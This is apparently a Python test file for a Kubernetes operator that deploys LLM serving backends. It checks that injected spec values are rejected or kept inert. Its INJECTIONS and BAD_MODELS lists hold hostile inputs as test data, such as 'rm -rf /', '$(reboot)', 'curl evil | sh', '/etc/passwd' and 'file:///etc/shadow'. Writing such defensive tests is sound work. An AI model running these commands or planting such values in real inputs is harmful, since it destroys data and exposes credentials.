"""Hostile LLMBackend specs: each is either rejected by validation or rendered without letting the
injected text escape its context (shell scripts, config.pbtxt, model.json, label values).

Complements test_render_triton.py (golden files, batching rules, pbtxt quoting round-trip) and
test_planner_properties.py (plan rules on random architectures): here the input is the whole CR spec.
"""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from cpu_probe import quiet_cpu_s
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from devcluster.cli import topology_nodes
from llmbackend.api.catalog import UnknownPresetError, resolve_architecture
from llmbackend.api.v1alpha1 import LLMBackendSpec, PlanStatus
from llmbackend.controller.decide import Observed, decide
from llmbackend.planning.inventory import Inventory
from llmbackend.planning.planner import plan, plan_for_spec
from llmbackend.render import pbtxt
from llmbackend.render.names import BackendRef
from llmbackend.render.workloads import choose_rollout_strategy, desired_objects

TOPOLOGY = Path(__file__).resolve().parents[2] / "e2e" / "topologies" / "dgx-h100-x4.yaml"
NODES = Inventory([d for d in yaml.safe_load_all(TOPOLOGY.read_text()) if d]).nodes()
REF = BackendRef("victim", "default", "00000000-0000-0000-0000-000000000001")

INJECTIONS = [
    '"; rm -rf /',
    "'; rm -rf / #",
    "$(reboot)",
    "`id`",
    "a && curl evil | sh",
    "x\n}\nbackend: \"python\"",
    'x" }\nparameters { key: "evil" value { string_value: "1" } }',
    "\\\"",
    "a b",
    "\x00",
    "../../etc/passwd",
    "--model-repository=/tmp/evil",
    "ok\n",
    "é",
    "A" * 100_000,
]

# Every place a user string reaches the rendered objects.
FIELD_SETTERS = {
    "model.name": lambda s, v: s["model"].__setitem__("name", v),
    "model.preset": lambda s, v: s["model"].__setitem__("preset", v),
    "source.uri": lambda s, v: s["model"].__setitem__("source", {"uri": v}),
    "source.uri.suffix": lambda s, v: s["model"].__setitem__("source", {"uri": "s3://bucket/" + v}),
    "pvc.claimName": lambda s, v: s["model"].__setitem__("source", {"pvc": {"claimName": v}}),
    "pvc.path": lambda s, v: s["model"].__setitem__("source", {"pvc": {"claimName": "models", "path": v}}),
    "pvc.path.suffix": lambda s, v: s["model"].__setitem__("source", {"pvc": {"claimName": "models", "path": "/m/" + v}}),
    "engine.image": lambda s, v: s.__setitem__("engine", {"image": v}),
    "engine.image.vllm": lambda s, v: s.__setitem__("engine", {"image": v, "backend": "vllm"}),
    "nodeSelector.value": lambda s, v: s.__setitem__("scheduling", {"nodeSelector": {"pool": v}}),
    "nodeSelector.key": lambda s, v: s.__setitem__("scheduling", {"nodeSelector": {v: "a"}}),
    "toleration.value": lambda s, v: s.__setitem__("scheduling", {"tolerations": [{"key": "k", "operator": "Equal", "value": v}]}),
    "priorityClassName": lambda s, v: s.__setitem__("scheduling", {"priorityClassName": v}),
    "resources.cpu": lambda s, v: s.__setitem__("scheduling", {"resources": {"cpu": v}}),
    "prometheus.url": lambda s, v: s.__setitem__("autoscaling", {"enabled": True, "source": "prometheus", "prometheus": {"url": v}}),
}

# Kubernetes label syntax (what the API server enforces on pod.spec.nodeSelector).
LABEL_VALUE = re.compile(r"^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$")
LABEL_NAME = re.compile(r"^([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9]$")
DNS_SUBDOMAIN = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$")


def base_spec(**extra: Any) -> dict[str, Any]:
    spec = {"model": {"preset": "llama-3.1-8b", "source": {"uri": "s3://models/llama-3.1-8b"}}}
    spec.update(extra)
    return spec


def render(raw: dict[str, Any]) -> tuple[LLMBackendSpec, list[dict[str, Any]]] | None:
    """Validate and render like the reconciler; None when the spec is refused (validation, preset, no fit)."""
    try:
        spec = LLMBackendSpec.model_validate(raw)
        resolve_architecture(spec.model)
    except (ValidationError, UnknownPresetError):
        return None
    fresh = plan_for_spec(spec, NODES)
    if not fresh.fits:
        return None
    status = PlanStatus.model_validate({**fresh.to_status(), "inputHash": "0" * 16})
    replicas = spec.autoscaling.min_replicas if spec.autoscaling.enabled else spec.replicas
    return spec, desired_objects(REF, spec, status, replicas, _strategy())


def _strategy():
    return choose_rollout_strategy(1, 0)[0]


def pod_specs(objects: list[dict[str, Any]]) -> list[dict[str, Any]]:
    out = []
    for obj in objects:
        if obj["kind"] == "Deployment":
            out.append(obj["spec"]["template"]["spec"])
        elif obj["kind"] == "LeaderWorkerSet":
            t = obj["spec"]["leaderWorkerTemplate"]
            out += [t["leaderTemplate"]["spec"], t["workerTemplate"]["spec"]]
    return out


def check_rendered(spec: LLMBackendSpec, objects: list[dict[str, Any]]) -> None:
    """The invariants every rendered object set must hold, whatever the input."""
    kinds = [o["kind"] for o in objects]
    assert kinds[0] == "ConfigMap" and ("Deployment" in kinds or "LeaderWorkerSet" in kinds) and "Service" in kinds
    # Everything serializes (the API server gets JSON).
    json.dumps(objects)
    config_map = objects[0]
    for key, content in config_map["data"].items():
        assert "/" not in key and re.match(r"^[-._a-zA-Z0-9]+$", key), key
        if key.endswith("config.pbtxt"):
            parsed = pbtxt.parse(content)  # raises on anything an injected string broke
            assert len(parsed["name"]) == 1
        elif key.endswith("model.json"):
            args = json.loads(content)
            source = spec.model.source
            if source is not None and source.uri is not None:
                # Loaded from the model cache, never fetched from the URI by the server.
                assert args["model"].startswith("/model-cache/") and "/./" not in args["model"] + "/"
    for pod in pod_specs(objects):
        for container in pod.get("initContainers", []) + pod["containers"]:
            command = container.get("command") or []
            if command[:2] == ["/bin/sh", "-c"]:
                script = command[2]
                tokens = shlex.split(script)  # well-formed shell words
                # Only constant commands and `&&`/`;` joins: no substitution, redirection to user paths, pipes.
                assert "$(" not in script.replace('"$(echo "$LWS_LEADER_ADDRESS"', "") or container["name"] == "triton"
                assert "`" not in script
                assert all(t not in ("|", "||") for t in tokens)
            for arg in (container.get("args") or []) + command[3:]:
                assert isinstance(arg, str) and "\n" not in arg and "\x00" not in arg
            assert re.match(r"^[a-z0-9]+([._\-/:@][A-Za-z0-9]+)*$", container["image"]), container["image"]
            for env in container.get("env", []):
                if "valueFrom" in env:  # downward API (the pod's namespace), no user input
                    assert set(env["valueFrom"]) == {"fieldRef"}, env
                    continue
                assert isinstance(env["value"], str) and "\x00" not in env["value"]
        for key, value in (pod.get("nodeSelector") or {}).items():
            prefix, _, name = key.rpartition("/")
            assert LABEL_NAME.match(name) and len(name) <= 63, key
            assert not prefix or (DNS_SUBDOMAIN.match(prefix) and len(prefix) <= 253), key
            assert LABEL_VALUE.match(value) and len(value) <= 63, value
        for toleration in pod.get("tolerations") or []:
            assert LABEL_VALUE.match(toleration.get("value") or ""), toleration  # the API server's rule
        for container in pod["containers"]:
            for mount in container.get("volumeMounts", []):
                sub = mount.get("subPath", "")
                assert not sub.startswith("/") and ".." not in sub.split("/"), sub  # rejected by the API server
        if pod.get("priorityClassName"):
            assert DNS_SUBDOMAIN.match(pod["priorityClassName"])


def _injected_cases():
    for field_name in FIELD_SETTERS:
        for i, value in enumerate(INJECTIONS):
            yield pytest.param(field_name, value, id=f"{field_name}-{i}")


@pytest.mark.parametrize("field_name, value", list(_injected_cases()))
def test_injected_string_is_rejected_or_contained(field_name: str, value: str) -> None:
    raw = base_spec()
    FIELD_SETTERS[field_name](raw, value)
    rendered = render(raw)
    if rendered is None:
        return  # refused: validation error, unknown preset or no plan (reported as a condition)
    spec, objects = rendered
    check_rendered(spec, objects)
    text = json.dumps(objects)
    dangerous = any(c in value for c in "\"'`$;&|\n\\ {}\x00")
    if dangerous:
        # A value with shell/pbtxt metacharacters may only appear where it is inert data
        # (an env var value, a label value); never in a script, an argv element or a config file.
        for pod in pod_specs(objects):
            for container in pod.get("initContainers", []) + pod["containers"]:
                assert value not in " ".join(container.get("command") or []), (field_name, container["name"])
                assert value not in " ".join(container.get("args") or []), (field_name, container["name"])
        for key, content in objects[0]["data"].items():
            assert value not in content, (field_name, key)
    assert text  # rendered


BAD_NUMBERS = [
    {"replicas": -1}, {"replicas": 10**9}, {"replicas": 1.5}, {"replicas": "3"}, {"replicas": True},
    {"engine": {"maxBatchSize": 0}}, {"engine": {"maxBatchSize": -64}}, {"engine": {"maxBatchSize": 2**63}},
    {"engine": {"maxInputLen": 4096, "maxSeqLen": 4096}}, {"engine": {"kvCacheFreeGpuMemFraction": 1.5}},
    {"engine": {"kvCacheFreeGpuMemFraction": float("nan")}}, {"engine": {"maxSeqLen": float("inf")}},
    {"parallelism": {"tensorParallel": 0}}, {"parallelism": {"tensorParallel": -8}},
    {"parallelism": {"tensorParallel": 3}}, {"parallelism": {"tensorParallel": 5, "pipelineParallel": 7}},
    {"parallelism": {"pipelineParallel": 2}}, {"parallelism": {"tensorParallel": 64, "pipelineParallel": 64}},
    {"autoscaling": {"enabled": True, "minReplicas": 5, "maxReplicas": 2}},
    {"autoscaling": {"enabled": True, "targetRatio": 0}}, {"autoscaling": {"enabled": True, "targetRatio": -1}},
    {"autoscaling": {"enabled": True, "windowSeconds": 0}},
    {"engine": {"quantization": "fp4"}}, {"engine": {"backend": "onnx"}}, {"engine": {"kvCacheDtype": "int1"}},
    {"unknownField": 1}, {"engine": {"extra": "x"}},
    {"scheduling": {"tolerations": [{"key": "k"}] * 100}},
    {"scheduling": {"nodeSelector": {f"k{i}": "v" for i in range(10_000)}}},
]

BAD_MODELS = [
    {"preset": "no-such-model"}, {"preset": "LLAMA"}, {"preset": ""}, {},
    {"preset": "llama-3.1-8b", "architecture": {"numLayers": 1}},
    {"architecture": {"numLayers": 0, "hiddenSize": 64, "numAttentionHeads": 1, "numKeyValueHeads": 1,
                      "headDim": 8, "vocabSize": 1, "parameterCount": 1}},
    {"architecture": {"numLayers": 32, "hiddenSize": 4096, "numAttentionHeads": 32, "numKeyValueHeads": 7,
                      "headDim": 128, "vocabSize": 32000, "parameterCount": 8_000_000_000}},
    {"architecture": {"numLayers": 32, "hiddenSize": 4096, "numAttentionHeads": 7, "numKeyValueHeads": 7,
                      "headDim": 128, "vocabSize": 32000, "parameterCount": 8_000_000_000}},
    {"architecture": {"numLayers": 200, "hiddenSize": 32768, "numAttentionHeads": 256, "numKeyValueHeads": 16,
                      "headDim": 128, "vocabSize": 256000, "parameterCount": 9_000_000_000_000}},
    {"preset": "llama-3.1-8b", "source": {"uri": "s3://a", "pvc": {"claimName": "x"}}},
    {"preset": "llama-3.1-8b", "source": {}},
    {"preset": "llama-3.1-8b", "source": {"uri": "file:///etc/shadow"}},
    {"preset": "llama-3.1-8b", "source": {"uri": "javascript:alert(1)"}},
]


@pytest.mark.parametrize("extra", BAD_NUMBERS, ids=lambda e: json.dumps(e)[:60])
def test_out_of_range_numbers_are_rejected_or_rendered_sanely(extra: dict[str, Any]) -> None:
    rendered = render(base_spec(**extra))
    if rendered is None:
        return
    spec, objects = rendered
    check_rendered(spec, objects)
    for obj in objects:
        if obj["kind"] == "Deployment":
            assert 0 <= obj["spec"]["replicas"] <= 1000


@pytest.mark.parametrize("model", BAD_MODELS, ids=lambda m: json.dumps(m)[:60])
def test_bad_models_are_rejected_or_rendered_sanely(model: dict[str, Any]) -> None:
    raw = {"model": {"source": {"uri": "s3://models/x"}, **model}}
    rendered = render(raw)
    if rendered is not None:
        check_rendered(*rendered)


def test_tensor_parallel_not_dividing_heads_is_a_plan_failure_not_a_crash() -> None:
    spec = LLMBackendSpec.model_validate(base_spec(parallelism={"tensorParallel": 3}))
    result = plan_for_spec(spec, NODES)
    assert not result.fits and result.reason == "TensorParallelDoesNotDivideHeads"


def test_huge_strings_are_bounded_by_validation() -> None:
    for setter in FIELD_SETTERS.values():
        raw = base_spec()
        setter(raw, "a" * 100_000)
        with pytest.raises((ValidationError, UnknownPresetError)):
            spec = LLMBackendSpec.model_validate(raw)
            resolve_architecture(spec.model)


def test_trailing_newline_does_not_slip_past_anchored_patterns() -> None:
    """Python's `$` matches before a final newline; pydantic's (Rust) regex must not."""
    for raw in (base_spec(model={"preset": "llama-3.1-8b", "name": "ok\n", "source": {"uri": "s3://m/x"}}),
                base_spec(model={"preset": "llama-3.1-8b", "source": {"uri": "s3://m/x\n"}}),
                base_spec(engine={"image": "nvcr.io/x:1\n"})):
        with pytest.raises(ValidationError):
            LLMBackendSpec.model_validate(raw)


# ---- fuzz: random valid specs never crash rendering or planning ----

label_text = st.from_regex(r"\A[a-z0-9]([a-z0-9.\-]{0,20}[a-z0-9])?\Z")
presets = st.sampled_from(["llama-3.1-8b", "llama-3.1-70b", "llama-3.1-405b", "mixtral-8x7b"])


@st.composite
def valid_specs(draw) -> dict[str, Any]:
    model: dict[str, Any] = {"preset": draw(presets)}
    if draw(st.booleans()):
        model["name"] = draw(st.from_regex(r"\A[A-Za-z0-9][A-Za-z0-9_.\-]{0,30}\Z"))
    if draw(st.booleans()):
        model["source"] = {"uri": "s3://" + draw(st.from_regex(r"\A[A-Za-z0-9._~/\-]{1,40}\Z"))}
    else:
        model["source"] = {"pvc": {"claimName": draw(label_text), "path": draw(st.from_regex(r"\A/[A-Za-z0-9._\-]{0,20}\Z"))}}
    max_seq = draw(st.sampled_from([256, 2048, 8192, 131072]))
    engine = {
        "backend": draw(st.sampled_from(["tensorrtllm", "vllm"])),
        "quantization": draw(st.sampled_from(["bf16", "fp16", "fp8", "int4_awq", "int8_sq"])),
        "maxBatchSize": draw(st.integers(1, 4096)),
        "maxSeqLen": max_seq,
        "maxInputLen": draw(st.integers(1, max_seq - 1)),
        "maxNumTokens": draw(st.integers(1, 65536)),
        "kvCacheFreeGpuMemFraction": draw(st.floats(0.05, 0.99)),
        "enableChunkedContext": draw(st.booleans()),
        "enableKvCacheReuse": draw(st.booleans()),
        "streaming": draw(st.booleans()),
    }
    spec: dict[str, Any] = {"model": model, "engine": engine, "replicas": draw(st.integers(0, 20))}
    if draw(st.booleans()):
        spec["parallelism"] = {"tensorParallel": draw(st.sampled_from([1, 2, 4, 8, 16]))}
        if draw(st.booleans()):
            spec["parallelism"]["pipelineParallel"] = draw(st.integers(1, 4))
    if draw(st.booleans()):
        lo = draw(st.integers(0, 5))
        spec["autoscaling"] = {"enabled": True, "mode": draw(st.sampled_from(["operator", "hpa"])),
                               "minReplicas": lo, "maxReplicas": draw(st.integers(max(1, lo), 10))}
    if draw(st.booleans()):
        spec["scheduling"] = {"nodeSelector": {"nvidia.com/gpu.machine": draw(st.sampled_from(["DGX-H100", "other"]))}}
    return spec


def _try_validate(raw: dict[str, Any]) -> LLMBackendSpec | None:
    try:
        return LLMBackendSpec.model_validate(raw)
    except ValidationError:
        return None  # e.g. a random mode name the enum does not have, or vllm + int8_sq


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(valid_specs())
def test_fuzz_valid_specs_render_or_fail_cleanly(raw: dict[str, Any]) -> None:
    spec = _try_validate(raw)
    if spec is None:
        return
    arch = resolve_architecture(spec.model)
    result = plan(arch, spec.engine, spec.parallelism, NODES, node_selector=spec.scheduling.node_selector)
    if not result.fits:
        assert result.reason and result.explanation
        return
    status = PlanStatus.model_validate({**result.to_status(), "inputHash": "f" * 16})
    try:
        objects = desired_objects(REF, spec, status, spec.replicas, _strategy())
    except ValueError as exc:  # documented: e.g. vllm cannot serve this quantization
        assert "not supported" in str(exc) or "invalid" in str(exc), exc
        return
    check_rendered(spec, objects)
    assert objects == desired_objects(REF, spec, status, spec.replicas, _strategy()), "rendering is deterministic"


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
                    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=12), children, max_size=4),
                    max_leaves=20))
def test_fuzz_arbitrary_json_never_crashes_validation(raw: Any) -> None:
    """Whatever JSON lands in .spec, validation answers with a ValidationError, never another exception."""
    for candidate in (raw, {"model": raw}, {"model": {"preset": "llama-3.1-8b"}, "engine": raw},
                      {"model": {"preset": "llama-3.1-8b"}, "scheduling": raw}):
        try:
            spec = LLMBackendSpec.model_validate(candidate)
        except ValidationError:
            continue
        try:
            resolve_architecture(spec.model)
        except UnknownPresetError:
            continue


AT_THE_LIMITS = {  # every list at its maxItems, numbers at their maximum where the rules allow (CRD, api/v1alpha1.py)
    "model": {"architecture": {
        "numLayers": 1024, "hiddenSize": 131072, "numAttentionHeads": 1024, "numKeyValueHeads": 1024, "headDim": 1024,
        "vocabSize": 4_000_000, "parameterCount": 10**14, "activeParameterCount": 10**14, "numExperts": 4096,
        "numExpertsPerToken": 4096, "numSharedExperts": 64, "kvLoraRank": 65536, "qkRopeHeadDim": 4096,
        "slidingWindow": 16_777_216, "slidingWindowLayers": 1024, "weightBytes": 10**15},
        "source": {"pvc": {"claimName": "m" * 253, "path": "p" * 1024}}},
    "engine": {"maxBatchSize": 4096, "maxInputLen": 1_048_575, "maxSeqLen": 1_048_576, "maxNumTokens": 1_048_576,
               "kvCacheMinSequences": 65536, "lora": {"maxRank": 256, "maxLoras": 256, "maxCpuLoras": 4096}},
    "adapters": [{"name": f"a{i}", "source": {"pvc": {"claimName": "m", "path": f"a{i}"}}} for i in range(64)],
    "scheduling": {"tolerations": [{"key": f"k{i}", "operator": "Exists"} for i in range(32)]},
}


FITS_WITH_EVERY_LIST_FULL = {**AT_THE_LIMITS, "engine": {"lora": {"maxRank": 64, "maxLoras": 8}},
                             "model": {"preset": "mixtral-8x7b", "source": {"pvc": {"claimName": "m", "path": "p"}}}}


@pytest.mark.parametrize("spec,planned", [(AT_THE_LIMITS, "InsufficientGPUMemory"), (FITS_WITH_EVERY_LIST_FULL, "Fits")],
                         ids=["at-the-limits", "fits-with-every-list-full"])
def test_a_spec_at_the_crd_s_limits_is_decided_in_well_under_a_second(spec, planned):
    """Issue 42's held probe (measured 0.7 s end to end): a pass over a spec at the CRD's limits, on every GPU
    topology the project knows, stays cheap (10-50 ms of CPU here); the operator's workers serve every namespace."""
    from test_decide import backend, conditions

    inventory = Inventory()
    for topology in sorted(TOPOLOGY.parent.glob("*.yaml")):
        for node in topology_nodes(str(topology)):
            inventory.upsert(node)
    LLMBackendSpec.model_validate(spec)

    def both_objectives() -> None:
        for objective in ("latency", "throughput"):
            asked_for = {**spec, "parallelism": {"objective": objective}}
            asked = decide(Observed(backend(asked_for), inventory.nodes()))
            decision = decide(Observed(backend(asked_for), inventory.nodes(), children=dict.fromkeys(asked.look_up)))
            assert conditions(decision)["Planned"][1] == planned
    assert quiet_cpu_s(both_objectives, runs=1) < 1.0
